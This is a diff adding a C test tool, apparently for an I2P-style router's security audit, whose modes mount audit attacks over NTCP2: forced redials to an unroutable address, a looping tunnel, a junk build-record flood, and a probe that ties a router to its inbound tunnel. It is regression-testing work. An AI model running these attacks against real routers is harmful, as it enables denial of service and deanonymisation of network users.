@@ -1,0 +1,379 @@
+/*
+ * The attacks of the security audit (shared docs, AUDIT.md) that a
+ * stranger can mount over NTCP2, against a live router, for
+ * tests/interop/hostile.sh.  Each mode is one attack; the script checks
+ * what the router counted and that it still serves.
+ *
+ *   hostile_probe RI_FILE FROM redial COUNT
+ *	#1: COUNT times, a router whose RouterInfo names an unroutable
+ *	address opens a session and leaves; another asks the target, in
+ *	a DatabaseStore with a reply token, to answer to the first: the
+ *	target dials an address whose connect fails at once.
+ *   hostile_probe RI_FILE FROM loop
+ *	#2: a two-hop inbound tunnel whose hops are both the target,
+ *	the second one's next hop the target again on its own tunnel ID
+ *	(a loop), then a message into its gateway.
+ *   hostile_probe RI_FILE FROM junk COUNT
+ *	#4: COUNT ShortTunnelBuilds of one record with the target's hash
+ *	prefix and random bytes (no cryptography), many to a frame.
+ *   hostile_probe RI_FILE FROM build
+ *	a genuine one-hop inbound build through the target, from a fresh
+ *	identity; prints "build: reply code N" (0: accepted).
+ *   hostile_probe RI_FILE FROM tunnelstore GATEWAY_RI_FILE TUNNEL_ID
+ *	#3: a session with the target, then, through the gateway of one
+ *	of the target's inbound tunnels, a DatabaseStore with a reply
+ *	token whose reply goes straight to us; prints "tunnelstore:
+ *	acknowledged" if the target answered (it knows its tunnel), or
+ *	"tunnelstore: no answer".
+ *
+ * Only to addresses in the test's own network namespace.
+ */
+#include <arpa/inet.h>
+
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+#include <unistd.h>
+
+#include "buf.h"
+#include "crypto.h"
+#include "i2pdata.h"
+#include "testpeer.h"
+#include "../../routerd/build.h"
+#include "../../routerd/dsm.h"
+
+#define REC_LEN		218	/* a short build record */
+#define UNROUTABLE	"198.18.254.1"	/* on no interface of the namespace */
+
+struct link {
+	int			 fd;
+	struct ntcp2_session	 s;
+	struct ntcp2_remote	 rem;
+};
+
+static int
+link_open(struct link *l, const char *ri_path, const char *from,
+    const struct tp_me *me)
+{
+	struct tp_sizes	 sz;
+	char		 host[64];
+	unsigned	 port;
+
+	if (tp_remote_load(ri_path, &l->rem, host, sizeof(host), &port) == -1 ||
+	    (l->fd = tp_dial(from, host, port)) == -1)
+		return -1;
+	if (tp_alice(l->fd, me, &l->rem, &l->s, &sz) != TP_DONE) {
+		close(l->fd);
+		return -1;
+	}
+	return 0;
+}
+
+static void
+link_close(struct link *l)
+{
+	tp_goodbye(l->fd, &l->s, 0);
+	ntcp2_session_wipe(&l->s);
+}
+
+/* frames until an I2NP message of that type (and ID, if nonzero) */
+static int
+wait_i2np(struct link *l, uint8_t want, uint32_t want_id, int timeout_ms,
+    uint8_t *out, size_t outsz, size_t *outlen)
+{
+	static uint8_t	 buf[NTCP2_FRAME_MAX];
+	struct rbuf	 r, blk, body;
+	const uint8_t	*b;
+	uint32_t	 id, got;
+	uint16_t	 size;
+	uint8_t		 type, mtype;
+	size_t		 plen;
+
+	while (tp_read_frame(l->fd, &l->s, buf, &plen, timeout_ms) == 0) {
+		rbuf_init(&r, buf, plen);
+		while (rbuf_get_u8(&r, &type) == 0 &&
+		    rbuf_get_u16(&r, &size) == 0 &&
+		    rbuf_get_ptr(&r, &b, size) == 0) {
+			rbuf_init(&blk, b, size);
+			if (type != NTCP2_B_I2NP ||
+			    rbuf_get_u8(&blk, &mtype) == -1 ||
+			    rbuf_get_u32(&blk, &id) == -1 ||
+			    rbuf_skip(&blk, 4) == -1 || mtype != want)
+				continue;
+			/* DeliveryStatus: the ID asked for is in the body */
+			body = blk;
+			if (want_id != 0 && (rbuf_get_u32(&body, &got) == -1 ||
+			    got != want_id))
+				continue;
+			if (rbuf_left(&blk) > outsz)
+				continue;
+			*outlen = rbuf_left(&blk);
+			return rbuf_get_bytes(&blk, out, *outlen);
+		}
+	}
+	return -1;
+}
+
+/* #1 */
+static int
+redial(const char *ri_path, const char *from, unsigned count)
+{
+	static uint8_t	 dsm[RI_MAXLEN + 256];
+	struct tp_me	*asker, *gone;
+	struct link	 a, g;
+	struct wbuf	 w;
+	unsigned	 i, sent = 0;
+
+	if ((asker = malloc(sizeof(*asker))) == NULL ||
+	    (gone = malloc(sizeof(*gone))) == NULL ||
+	    tp_me_make(asker, from, 30002) == -1 ||
+	    link_open(&a, ri_path, from, asker) == -1)
+		return -1;
+	for (i = 0; i < count; i++) {
+		/* a router that can be dialed nowhere, there and gone */
+		if (tp_me_make(gone, UNROUTABLE, 30003) == -1 ||
+		    link_open(&g, ri_path, from, gone) == -1)
+			break;
+		usleep(50000);
+		link_close(&g);
+		usleep(50000);
+		wbuf_init_fixed(&w, dsm, sizeof(dsm));
+		if (dsm_build_ri(&w, asker->local.hash, asker->local.ri,
+		    asker->local.rilen, 1000 + i, 0, gone->local.hash) == -1 ||
+		    tp_send_i2np(a.fd, &a.s, I2NP_DATABASE_STORE, dsm,
+		    wbuf_len(&w)) == -1)
+			break;
+		sent++;
+	}
+	sleep(1);
+	link_close(&a);
+	printf("redial: %u stores answered to an unroutable router\n", sent);
+	return sent == count ? 0 : -1;
+}
+
+/* #2 */
+static int
+loop(const char *ri_path, const char *from, const uint8_t pub[32])
+{
+	static uint8_t	 bmsg[BUILD_MSG_MAX];
+	struct tp_me	*me;
+	struct link	 l;
+	struct build	 b;
+	struct wbuf	 w;
+	struct i2np_hdr	 h;
+	uint8_t		 ds[12], m[64], gw[128];
+	int		 len;
+
+	if ((me = malloc(sizeof(*me))) == NULL ||
+	    tp_me_make(me, from, 30004) == -1 ||
+	    link_open(&l, ri_path, from, me) == -1)
+		return -1;
+	memset(&b, 0, sizeof(b));
+	b.inbound = 1;
+	b.nhops = 2;
+	memcpy(b.hops[0].hash, l.rem.hash, 32);
+	memcpy(b.hops[0].pub, pub, 32);
+	memcpy(b.hops[1].hash, l.rem.hash, 32);
+	memcpy(b.hops[1].pub, pub, 32);
+	memcpy(b.self, l.rem.hash, 32);
+	b.hops[1].recv_id = build_random_id();
+	b.end_id = b.hops[1].recv_id;		/* hop 2 sends to itself */
+	if ((len = build_make(&b, time(NULL), bmsg)) == -1 ||
+	    tp_send_i2np(l.fd, &l.s, I2NP_SHORT_TUNNEL_BUILD, bmsg, len) == -1)
+		return -1;
+	sleep(2);
+	/* a DeliveryStatus into the gateway: round and round, if taken */
+	memset(ds, 0, sizeof(ds));
+	memset(&h, 0, sizeof(h));
+	h.type = I2NP_DELIVERY_STATUS;
+	h.msg_id = build_random_id();
+	h.expiration = ((uint64_t)time(NULL) + 60) * 1000;
+	wbuf_init_fixed(&w, m, sizeof(m));
+	if (i2np_msg_write_long(&h, ds, sizeof(ds), &w) == -1)
+		return -1;
+	len = wbuf_len(&w);
+	wbuf_init_fixed(&w, gw, sizeof(gw));
+	wbuf_put_u32(&w, b.hops[0].recv_id);
+	wbuf_put_u16(&w, len);
+	wbuf_put_bytes(&w, m, len);
+	if (wbuf_error(&w) || tp_send_i2np(l.fd, &l.s, I2NP_TUNNEL_GATEWAY,
+	    gw, wbuf_len(&w)) == -1)
+		return -1;
+	sleep(2);
+	link_close(&l);
+	build_wipe(&b);
+	printf("loop: built and fed\n");
+	return 0;
+}
+
+/* #4: many junk records to a frame */
+static int
+junk(const char *ri_path, const char *from, unsigned count)
+{
+	static uint8_t	 plain[NTCP2_FRAME_MAX], frame[NTCP2_FRAME_MAX + 2];
+	uint8_t		 msg[9 + 1 + REC_LEN];
+	struct tp_me	*me;
+	struct link	 l;
+	struct wbuf	 p, f;
+	uint32_t	 id;
+	unsigned	 sent = 0;
+
+	if ((me = malloc(sizeof(*me))) == NULL ||
+	    tp_me_make(me, from, 30005) == -1 ||
+	    link_open(&l, ri_path, from, me) == -1)
+		return -1;
+	while (sent < count) {
+		wbuf_init_fixed(&p, plain, sizeof(plain));
+		while (sent < count && sizeof(plain) - wbuf_len(&p) >= 3 + sizeof(msg)) {
+			crypto_random(msg, sizeof(msg));
+			msg[0] = I2NP_SHORT_TUNNEL_BUILD;
+			id = htonl(time(NULL) + 60);
+			memcpy(msg + 5, &id, 4);
+			msg[9] = 1;			/* one record */
+			memcpy(msg + 10, l.rem.hash, 16);	/* "ours" */
+			if (ntcp2_put_i2np(&p, msg, sizeof(msg)) == -1)
+				break;
+			sent++;
+		}
+		wbuf_init_fixed(&f, frame, sizeof(frame));
+		if (ntcp2_frame_seal(&l.s.send, plain, wbuf_len(&p), &f) !=
+		    NTCP2_OK || tp_write_full(l.fd, frame, wbuf_len(&f)) == -1)
+			break;
+	}
+	sleep(2);
+	link_close(&l);
+	printf("junk: %u build records sent\n", sent);
+	return sent == count ? 0 : -1;
+}
+
+/* a genuine build: the target the gateway, we the next hop */
+static int
+genuine(const char *ri_path, const char *from, const uint8_t pub[32])
+{
+	static uint8_t	 bmsg[BUILD_MSG_MAX], reply[BUILD_MSG_MAX];
+	uint8_t		 codes[BUILD_HOPS_MAX];
+	struct tp_me	*me;
+	struct link	 l;
+	struct build	 b;
+	size_t		 rlen;
+	int		 len, rv;
+
+	if ((me = malloc(sizeof(*me))) == NULL ||
+	    tp_me_make(me, from, 30006) == -1 ||
+	    link_open(&l, ri_path, from, me) == -1)
+		return -1;
+	memset(&b, 0, sizeof(b));
+	b.inbound = 1;
+	b.nhops = 1;
+	memcpy(b.hops[0].hash, l.rem.hash, 32);
+	memcpy(b.hops[0].pub, pub, 32);
+	memcpy(b.self, me->local.hash, 32);
+	if ((len = build_make(&b, time(NULL), bmsg)) == -1 ||
+	    tp_send_i2np(l.fd, &l.s, I2NP_SHORT_TUNNEL_BUILD, bmsg, len) == -1)
+		return -1;
+	rv = -1;
+	if (wait_i2np(&l, I2NP_SHORT_TUNNEL_BUILD, 0, 10000, reply,
+	    sizeof(reply), &rlen) == 0 &&
+	    build_reply(&b, reply, rlen, codes) != -1) {
+		printf("build: reply code %u\n", codes[0]);
+		rv = 0;
+	} else
+		printf("build: no reply\n");
+	link_close(&l);
+	build_wipe(&b);
+	return rv;
+}
+
+/* #3 */
+static int
+tunnelstore(const char *ri_path, const char *from, const char *gw_path,
+    uint32_t tunnel)
+{
+	static uint8_t	 dsm[RI_MAXLEN + 256], m[RI_MAXLEN + 512];
+	static uint8_t	 gwmsg[RI_MAXLEN + 512];
+	uint8_t		 ack[64];
+	struct tp_me	*me;
+	struct link	 l, g;
+	struct wbuf	 w;
+	struct i2np_hdr	 h;
+	uint32_t	 token;
+	size_t		 alen, mlen;
+
+	if ((me = malloc(sizeof(*me))) == NULL ||
+	    tp_me_make(me, from, 30007) == -1 ||
+	    link_open(&l, ri_path, from, me) == -1 ||
+	    link_open(&g, gw_path, from, me) == -1)
+		return -1;
+	token = build_random_id();
+	wbuf_init_fixed(&w, dsm, sizeof(dsm));
+	if (dsm_build_ri(&w, me->local.hash, me->local.ri, me->local.rilen,
+	    token, 0, me->local.hash) == -1)
+		return -1;
+	memset(&h, 0, sizeof(h));
+	h.type = I2NP_DATABASE_STORE;
+	h.msg_id = build_random_id();
+	h.expiration = ((uint64_t)time(NULL) + 60) * 1000;
+	mlen = wbuf_len(&w);
+	wbuf_init_fixed(&w, m, sizeof(m));
+	if (i2np_msg_write_long(&h, dsm, mlen, &w) == -1)
+		return -1;
+	mlen = wbuf_len(&w);
+	wbuf_init_fixed(&w, gwmsg, sizeof(gwmsg));
+	wbuf_put_u32(&w, tunnel);
+	wbuf_put_u16(&w, mlen);
+	wbuf_put_bytes(&w, m, mlen);
+	if (wbuf_error(&w) || tp_send_i2np(g.fd, &g.s, I2NP_TUNNEL_GATEWAY,
+	    gwmsg, wbuf_len(&w)) == -1)
+		return -1;
+	if (wait_i2np(&l, I2NP_DELIVERY_STATUS, token, 8000, ack, sizeof(ack),
+	    &alen) == 0)
+		printf("tunnelstore: acknowledged\n");
+	else
+		printf("tunnelstore: no answer\n");
+	link_close(&g);
+	link_close(&l);
+	return 0;
+}
+
+static void
+usage(void)
+{
+	fprintf(stderr, "usage: hostile_probe RI_FILE FROM_ADDR "
+	    "redial COUNT | loop | junk COUNT | build |\n"
+	    "    tunnelstore GATEWAY_RI_FILE TUNNEL_ID\n");
+	exit(2);
+}
+
+int
+main(int argc, char *argv[])
+{
+	uint8_t		 pub[32];
+	const char	*mode;
+	int		 rv;
+
+	if (argc < 4)
+		usage();
+	mode = argv[3];
+	if (crypto_init() == -1 || tp_remote_crypto(argv[1], pub) == -1) {
+		fprintf(stderr, "hostile_probe: %s unreadable\n", argv[1]);
+		return 1;
+	}
+	if (strcmp(mode, "redial") == 0 && argc == 5)
+		rv = redial(argv[1], argv[2], strtoul(argv[4], NULL, 10));
+	else if (strcmp(mode, "loop") == 0 && argc == 4)
+		rv = loop(argv[1], argv[2], pub);
+	else if (strcmp(mode, "junk") == 0 && argc == 5)
+		rv = junk(argv[1], argv[2], strtoul(argv[4], NULL, 10));
+	else if (strcmp(mode, "build") == 0 && argc == 4)
+		rv = genuine(argv[1], argv[2], pub);
+	else if (strcmp(mode, "tunnelstore") == 0 && argc == 6)
+		rv = tunnelstore(argv[1], argv[2], argv[4],
+		    strtoul(argv[5], NULL, 10));
+	else
+		usage();
+	if (rv == -1)
+		fprintf(stderr, "hostile_probe: %s: session lost or refused\n",
+		    mode);
+	return rv == 0 ? 0 : 1;
+}
